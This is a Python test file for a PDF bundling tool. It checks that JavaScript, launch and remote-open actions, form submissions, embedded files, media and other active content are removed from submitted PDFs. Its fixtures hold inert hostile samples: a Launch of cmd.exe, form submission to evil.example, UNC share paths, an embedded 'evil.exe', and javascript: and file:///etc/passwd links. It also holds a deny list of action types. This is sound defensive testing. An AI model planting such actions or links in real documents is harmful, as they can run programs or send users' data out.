"""Nothing that acts by itself, carries files or fetches them comes into a bundle, wherever it stands; it is counted."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Object, String

from plan_report.bundle.dropped import Kind, listed
from plan_report.bundle.foreign import open_foreign
from plan_report.runs.bundle import bundle

CASES = Path(__file__).parents[1] / "cases" / "files" / "pdf"
FORBIDDEN = {
    *("/JavaScript", "/Launch", "/GoToR", "/GoToE", "/GoToDp", "/SubmitForm", "/ImportData", "/Rendition", "/Movie"),
    *("/Sound", "/RichMediaExecute", "/GoTo3DView", "/ResetForm", "/Hide", "/Named", "/Thread", "/SetOCGState"),
}
PLAYERS = {"/FileAttachment", "/Movie", "/Sound", "/Screen", "/RichMedia", "/3D"}
ACTIONS: dict[str, tuple[Kind, dict[str, Any]]] = {
    "JavaScript": (Kind.JAVASCRIPT, {"JS": String("app.alert(1)")}),
    "Launch": (Kind.OPENS, {"F": String("cmd.exe")}),
    "GoToR": (Kind.OPENS, {"F": String("\\\\evil\\x.pdf"), "D": Array([0, Name.Fit])}),
    "GoToE": (Kind.OPENS, {"T": Dictionary(R=Name.C, N=String("x"))}),
    "SubmitForm": (Kind.SENDS, {"F": String("http://evil.example/")}),
    "ImportData": (Kind.SENDS, {"F": String("x.fdf")}),
    "Rendition": (Kind.MEDIA, {"OP": 0}),
    "Movie": (Kind.MEDIA, {"T": String("x")}),
    "Sound": (Kind.MEDIA, {}),
    "RichMediaExecute": (Kind.MEDIA, {}),
    "GoTo3DView": (Kind.MEDIA, {}),
    "Named": (Kind.ACTION, {"N": Name.Print}),
    "Hide": (Kind.ACTION, {"T": String("x")}),
    "ResetForm": (Kind.ACTION, {}),
    "SetOCGState": (Kind.ACTION, {"State": Array()}),
    "Thread": (Kind.ACTION, {"D": 0}),
    "MadeUp": (Kind.ACTION, {}),
}
ADDRESSES = {
    "javascript:alert(1)": False,
    " JavaScript:alert(1)": False,
    "file:///etc/passwd": False,
    "\\\\evil\\share\\x.pdf": False,
    "//evil/share": False,
    "ftp://example.jp/": False,
    "page.html": False,
    "tel:0312345678": False,
    "https:evil": False,
    "http://": False,
    "http://example.jp/\n.exe": False,
    "https://example.jp/": True,
    "HTTP://EXAMPLE.JP/a b?c=d#e": True,
    "mailto:shakyo@example.jp": True,
    "https://例え.jp/資料": True,
}


def action(kind: str, **more: Any) -> Dictionary:
    """An action of this kind."""
    return Dictionary({"/S": Name(f"/{kind}"), **{f"/{key}": value for key, value in ACTIONS[kind][1].items()}, **more})


def file(pdf: pikepdf.Pdf) -> Object:
    """A file in the file."""
    held = pdf.make_stream(b"MZ", Type=Name.EmbeddedFile)
    return pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("evil.exe"), EF=Dictionary(F=held)))


def note(pdf: pikepdf.Pdf, kind: str, **entries: Any) -> Object:
    """An annotation on the first page."""
    made = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name(f"/{kind}"), Rect=Array([100, 100, 200, 120]), **entries)
    )
    page = pdf.pages[0].obj
    page["/Annots"] = Array([*page.get("/Annots", ()), made])
    return made


def form(pdf: pikepdf.Pdf, **entries: Any) -> Dictionary:
    """A form in the page's resources."""
    return pdf.make_stream(b"0 0 m 9 9 l S", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]), **entries)


def drawn(pdf: pikepdf.Pdf, value: Any) -> None:
    """Put it among the page's forms."""
    pdf.pages[0].obj["/Resources"]["/XObject"] = Dictionary(X=value)


def tagged(pdf: pikepdf.Pdf, **entries: Any) -> None:
    """A structure tree of one paragraph."""
    root = pdf.make_indirect(Dictionary(Type=Name.StructTreeRoot))
    element = pdf.make_indirect(Dictionary(Type=Name.StructElem, S=Name.P, P=root, Pg=pdf.pages[0].obj, K=0, **entries))
    root["/K"] = element
    root["/ParentTree"] = Dictionary(Nums=Array([0, Array([element])]))
    pdf.pages[0].obj["/StructParents"] = 0
    pdf.Root["/StructTreeRoot"] = root


def field(pdf: pikepdf.Pdf, kind: str, **entries: Any) -> Object:
    """A form field that is its own widget."""
    made = note(pdf, "Widget", FT=Name(f"/{kind}"), T=String("f"), **entries)
    pdf.Root["/AcroForm"] = Dictionary(Fields=Array([made]))
    return made


def bookmark(pdf: pikepdf.Pdf, **entries: Any) -> None:
    """The only bookmark."""
    root = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
    item = pdf.make_indirect(Dictionary(Title=String("x"), Parent=root, **entries))
    root["/First"] = root["/Last"] = item
    pdf.Root["/Outlines"] = root


def above(pdf: pikepdf.Pdf, act: Dictionary) -> None:
    """The action stands at the field above the widget."""
    widget = note(pdf, "Widget")
    parent = pdf.make_indirect(Dictionary(FT=Name.Tx, T=String("f"), Kids=Array([widget]), AA=Dictionary(K=act)))
    widget["/Parent"] = parent
    pdf.Root["/AcroForm"] = Dictionary(Fields=Array([parent]), CO=Array([parent]))


def a_tree(leaf: str, key: Any) -> Dictionary:
    """A name or number tree of one entry."""
    return Dictionary({f"/{leaf}": Array([key, Dictionary()])})


def deep(act: Dictionary) -> Dictionary:
    """The action after a harmless one, in a list, twice."""
    return Dictionary(S=Name.URI, URI=String("https://example.jp/"), Next=Array([Dictionary(S=Name.GoTo, Next=act)]))


PLACES: dict[str, Callable[[pikepdf.Pdf, Dictionary], object]] = {
    "opening": lambda pdf, act: pdf.Root.__setitem__("/OpenAction", act),
    "catalogue": lambda pdf, act: pdf.Root.__setitem__("/AA", Dictionary(WC=act)),
    "page": lambda pdf, act: pdf.pages[0].obj.__setitem__("/AA", Dictionary(O=act)),
    "link": lambda pdf, act: note(pdf, "Link", A=act),
    "indirect": lambda pdf, act: note(pdf, "Link", A=pdf.make_indirect(act)),
    "link's events": lambda pdf, act: note(pdf, "Link", AA=Dictionary(E=act)),
    "chain": lambda pdf, act: note(pdf, "Link", A=deep(act)),
    "widget": lambda pdf, act: field(pdf, "Btn", A=act),
    "field": lambda pdf, act: field(pdf, "Tx", AA=Dictionary(K=act)),
    "field above": above,
    "bookmark": lambda pdf, act: bookmark(pdf, A=act),
    "bookmark's chain": lambda pdf, act: bookmark(pdf, A=deep(act)),
    "a form's own": lambda pdf, act: drawn(pdf, form(pdf, Odd=act)),
    "an element's own": lambda pdf, act: tagged(pdf, Odd=act),
    "in a list": lambda pdf, act: note(pdf, "Text", Odd=Array([act])),
    "popup": lambda pdf, act: note(pdf, "Text", Popup=pdf.make_indirect(Dictionary(Subtype=Name.Popup, A=act))),
}

CARRIERS: dict[str, tuple[Kind, Callable[[pikepdf.Pdf], object]]] = {
    "embedded": (
        Kind.ATTACHMENT,
        lambda pdf: pdf.Root.update(
            {"/Names": Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("x"), file(pdf)])))}
        ),
    ),
    "catalogue's": (Kind.ATTACHMENT, lambda pdf: pdf.Root.__setitem__("/AF", Array([file(pdf)]))),
    "page's": (Kind.ATTACHMENT, lambda pdf: pdf.pages[0].obj.__setitem__("/AF", Array([file(pdf)]))),
    "annotation's": (Kind.ATTACHMENT, lambda pdf: note(pdf, "Text", AF=Array([file(pdf)]))),
    "form's": (Kind.ATTACHMENT, lambda pdf: drawn(pdf, form(pdf, AF=Array([file(pdf)])))),
    "element's": (Kind.ATTACHMENT, lambda pdf: tagged(pdf, AF=file(pdf))),
    "pinned": (Kind.ATTACHMENT, lambda pdf: note(pdf, "FileAttachment", FS=file(pdf))),
    "property's": (
        Kind.ATTACHMENT,
        lambda pdf: pdf.pages[0].obj["/Resources"].__setitem__("/Properties", Dictionary(MC=Dictionary(AF=file(pdf)))),
    ),
    "screen": (Kind.MEDIA, lambda pdf: note(pdf, "Screen", A=action("Rendition"))),
    "movie": (Kind.MEDIA, lambda pdf: note(pdf, "Movie", Movie=Dictionary(F=file(pdf)))),
    "sound": (Kind.MEDIA, lambda pdf: note(pdf, "Sound", Sound=pdf.make_stream(b"x"))),
    "rich": (
        Kind.MEDIA,
        lambda pdf: note(
            pdf, "RichMedia", RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([String("x"), file(pdf)])))
        ),
    ),
    "3D": (
        Kind.MEDIA,
        lambda pdf: note(pdf, "3D", **{"3DD": pdf.make_stream(b"x", OnInstantiate=action("JavaScript"))}),
    ),
    "elsewhere": (Kind.EXTERNAL, lambda pdf: drawn(pdf, form(pdf, F=String("\\\\evil\\x")))),
    "reference": (Kind.EXTERNAL, lambda pdf: drawn(pdf, form(pdf, Ref=Dictionary(F=String("x.pdf"), Page=0)))),
    "XFA": (Kind.XFA, lambda pdf: (field(pdf, "Tx"), pdf.Root["/AcroForm"].update({"/XFA": pdf.make_stream(b"<x/>")}))),
    "signature": (Kind.SIGNATURE, lambda pdf: field(pdf, "Sig", V=Dictionary(Type=Name.Sig, Contents=String("x")))),
    "labels": (Kind.LABELS, lambda pdf: pdf.Root.__setitem__("/PageLabels", a_tree("Nums", 0))),
    "articles": (
        Kind.ARTICLE,
        lambda pdf: pdf.pages[0].obj.__setitem__("/B", Array([pdf.make_indirect(Dictionary())])),
    ),
}


def everything(pdf: pikepdf.Pdf) -> Iterator[Any]:
    """Every dictionary and stream in a file, however deep."""
    waiting: list[Any] = list(pdf.objects)
    while waiting:
        each = waiting.pop()
        if isinstance(each, Array):
            waiting.extend(item for item in each if isinstance(item, Object) and not item.is_indirect)
        elif isinstance(each, Dictionary | pikepdf.Stream):
            yield each
            waiting.extend(value for _, value in each.items() if isinstance(value, Object) and not value.is_indirect)


def assert_harmless(out: Path) -> None:
    """No action but to a page or the web, no file, no script, whatever holds it."""
    with pikepdf.open(out) as pdf:
        for each in everything(pdf):
            kind = str(each.get("/S"))
            assert kind not in FORBIDDEN
            assert kind != "/MadeUp"
            if kind == "/URI":
                assert ADDRESSES.get(str(each["/URI"]), True)
            assert not {"/AA", "/AF", "/EF", "/JS", "/XFA", "/Movie", "/Sound", "/RichMediaContent"} & set(each.keys())
            assert str(each.get("/Type")) not in {"/Filespec", "/EmbeddedFile"}
            assert str(each.get("/Subtype")) not in {
                "/FileAttachment",
                "/Movie",
                "/Sound",
                "/Screen",
                "/RichMedia",
                "/3D",
            }
            assert not isinstance(each, pikepdf.Stream) or not {"/F", "/Ref", "/OPI"} & set(each.keys())


@pytest.fixture
def bundled_with(workshop: Any, body: Any) -> Callable[[Callable[[pikepdf.Pdf], object]], tuple[Path, list[str]]]:
    """A bundle of one paper that was changed in this way, and what is told of it."""

    def make(change: Callable[[pikepdf.Pdf], object]) -> tuple[Path, list[str]]:
        path = workshop.pdf("a.pdf", body, pages=2)

        def plain(pdf: pikepdf.Pdf) -> None:
            del pdf.Root["/Outlines"]
            change(pdf)

        workshop.change(path, plain)
        made, out = workshop.bundle([{"number": "資料1", "title": "調査", "file": path}])
        return out, [each for each in made.notices if "外しました" in each]

    return make


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("kind", ACTIONS)
def test_no_action_survives_wherever_it_stands(tmp_path: Path, kind: str, place: str) -> None:
    """It is counted under what it does; one that nobody has heard of does nothing outside the standard's places."""
    path = tmp_path / "a.pdf"
    with pikepdf.new() as pdf:
        pdf.add_blank_page().obj["/Resources"] = Dictionary()
        PLACES[place](pdf, action(kind))
        pdf.save(path)
    opened = open_foreign(path)
    out = tmp_path / "out.pdf"
    with opened.pdf as pdf, pikepdf.new() as copy:
        copy.add_pages_from(pdf)
        if "/StructTreeRoot" in pdf.Root:
            copy.Root["/Tree"] = copy.copy_foreign(pdf.Root["/StructTreeRoot"])
        copy.save(out)
    odd = kind == "MadeUp" and place in {"a form's own", "an element's own", "in a list", "popup"}
    if not odd and not place.startswith("bookmark"):  # these are read when the parts are put together
        assert_harmless(out)
        assert opened.said.dropped[ACTIONS[kind][0]] == 1


@pytest.mark.parametrize("place", [place for place in PLACES if place.startswith("bookmark")])
def test_no_action_of_a_bookmark_survives(bundled_with: Any, place: str) -> None:
    """It is told; one that did nothing else is left out."""
    out, told = bundled_with(lambda pdf: PLACES[place](pdf, action("Launch")))
    assert_harmless(out)
    assert "ほかのファイルやプログラムを開く動作 1件" in told[0]


@pytest.mark.parametrize("what", CARRIERS)
def test_no_file_and_no_player_survives(bundled_with: Any, what: str) -> None:
    """Each is told once, with the paper."""
    kind, change = CARRIERS[what]
    out, (told,) = bundled_with(change)
    assert_harmless(out)
    assert told == f"資料1（a.pdf）から、次のものを外しました。{kind.words} 1件"


@pytest.mark.parametrize("address", ADDRESSES)
def test_only_addresses_of_the_web_and_of_mail_survive(bundled_with: Any, address: str) -> None:
    """As they are."""
    out, told = bundled_with(lambda pdf: note(pdf, "Link", A=Dictionary(S=Name.URI, URI=String(address))))
    with pikepdf.open(out) as pdf:
        (link,) = pdf.pages[1].obj["/Annots"]
        kept = str(link["/A"]["/URI"]) if "/A" in link else None
    assert kept == (address if ADDRESSES[address] else None)
    assert bool(told) is not ADDRESSES[address]


@pytest.mark.parametrize("kind", ["Screen", "Movie", "RichMedia", "3D"])
def test_what_a_player_showed_is_still_seen(bundled_with: Any, kind: str) -> None:
    """The picture before it plays stays, and acts no more."""
    out, _ = bundled_with(lambda pdf: note(pdf, kind, AP=Dictionary(N=form(pdf)), A=action("Rendition")))
    with pikepdf.open(out) as pdf:
        (seen,) = pdf.pages[1].obj["/Annots"]
        assert seen["/Subtype"] == Name.Stamp
        assert seen["/AP"]["/N"].read_bytes() == b"0 0 m 9 9 l S"
    assert_harmless(out)


def test_a_signature_is_still_seen_and_signs_nothing(bundled_with: Any) -> None:
    """Its picture stays; the form has no field of it."""
    out, (told,) = bundled_with(
        lambda pdf: field(pdf, "Sig", AP=Dictionary(N=form(pdf)), V=Dictionary(Type=Name.Sig, Contents=String("x")))
    )
    assert "電子署名（まとめると無効になります） 1件" in told
    with pikepdf.open(out) as pdf:
        assert "/AcroForm" not in pdf.Root
        assert pdf.pages[1].obj["/Annots"][0]["/Subtype"] == Name.Stamp


@pytest.mark.parametrize("name", ["attach", "js", "b11_js", "fa2"])
def test_the_cases_come_out_harmless(workshop: Any, name: str) -> None:
    """As they were sent in; no conformance is claimed."""
    made, out = workshop.bundle([{"number": "資料1", "title": "例", "file": CASES / f"{name}.pdf"}])
    assert_harmless(out)
    assert made.claims == ()
    assert any(line.startswith(f"資料1（{name}.pdf）から、次のものを外しました。") for line in made.notices)


def test_what_was_dropped_takes_the_claims_away(workshop: Any) -> None:
    """A report of ours that somebody pinned a file to claims both standards, and the bundle none."""
    made, out = workshop.bundle([])
    paper = workshop.change(
        out.rename(workshop.folder / "p.pdf"), lambda pdf: note(pdf, "FileAttachment", FS=file(pdf))
    )
    again = bundle(workshop.agenda([{"number": "資料1", "title": "例", "file": paper}]), out)
    assert (made.claims, again.claims) == (("PDF/UA-1", "PDF/A-2a"), ())
    assert sum("外したものがあり、元のPDFと同じではありません：資料1" in line for line in again.notices) == 2


def test_each_kind_is_listed_with_its_number() -> None:
    """What was not there is not listed."""
    assert listed({Kind.JAVASCRIPT: 3, Kind.LABELS: 0, Kind.ATTACHMENT: 1}) == "JavaScript 3件、添付ファイル 1件"
    assert listed({}) == ""
